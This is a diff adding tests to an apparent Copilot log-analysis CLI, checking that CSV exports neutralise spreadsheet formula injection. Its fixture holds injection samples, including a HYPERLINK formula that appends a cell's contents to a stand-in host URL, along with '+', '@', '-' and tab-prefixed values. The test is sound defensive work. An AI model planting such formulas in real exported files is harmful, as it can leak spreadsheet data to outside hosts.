@@ -7,6 +7,8 @@ are in tests/test_process_surroundings.py (the CLI run as a subprocess).
 
 from __future__ import annotations
 
+import csv
+import io
 import time
 from datetime import timedelta
 from pathlib import Path
@@ -20,7 +22,9 @@ from click.testing import CliRunner, Result
 from copilot_logs.cli import main
 from copilot_logs.cli.options import Command
 from copilot_logs.durations import parse_duration
-from synth import SessionBuilder, bash
+from copilot_logs.render.formats import csv_cell
+from copilot_logs.render.output import one_line
+from synth import SessionBuilder, ToolCall, bash
 from tests.conftest import SAMPLES
 
 
@@ -354,3 +358,77 @@ def test_a_local_zone_polars_refuses_is_passed_over(
     result = run("count", "--by", "day", "--format", "json", SAMPLES)
     assert result.exit_code == 0, result.output
     assert sum(row["llm_calls"] for row in orjson.loads(result.stdout)) == ALL_LINES
+
+
+# --- CSV formula injection -------------------------------------------------------------------
+
+FORMULAS = {
+    "repository": '=HYPERLINK("https://x.example/?"&A1,"open")',
+    "branch": "+1+1",
+    "model": "@SUM(A1:A9)",
+    "cwd": "-2+3",
+    "tool": "\tcmd",
+}
+
+
+@pytest.fixture
+def formula_root(tmp_path: Path) -> Path:
+    root = tmp_path / "session-state"
+    b = SessionBuilder(
+        seed=5,
+        repository=FORMULAS["repository"],
+        branch=FORMULAS["branch"],
+        model=FORMULAS["model"],
+        cwd=FORMULAS["cwd"],
+    )
+    b.mode_changed("autopilot")
+    b.user_message("Go.")
+    b.turn("Running.", [ToolCall(FORMULAS["tool"], {"command": "ls"})])
+    b.task_complete_turn("Done.")
+    b.shutdown()
+    b.write_to(root)
+    return root
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["sessions"],
+        ["count", "--by", "repository"],
+        ["count", "--by", "model"],
+        ["audit", "--all"],
+        ["usage", "--by", "repository"],
+        ["usage", "--breakdown"],
+        ["timeline"],
+    ],
+    ids=" ".join,
+)
+def test_csv_cells_never_start_a_formula(formula_root: Path, words: list[str]) -> None:
+    result = run(*words, "--format", "csv", formula_root)
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells
+    starts = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    assert starts == []
+    assert not [cell for cell in cells if cell.startswith("-") and not _number(cell)]
+    quoted = {cell for cell in cells if cell.startswith("'")}
+    assert quoted  # each command shows at least one of the names, quoted
+    assert quoted <= {"'" + one_line(text) for text in FORMULAS.values()}
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_a_csv_number_is_not_quoted() -> None:
+    assert csv_cell(-3) == "-3"
+    assert csv_cell(-2.5) == "-2.5"
+    assert csv_cell("-3") == "'-3"  # text from a log
+    assert csv_cell("@x") == "'@x"
+    assert csv_cell("\tx") == "' x"  # the tab shown as a space, as in every cell
+    assert csv_cell("a=b") == "a=b"
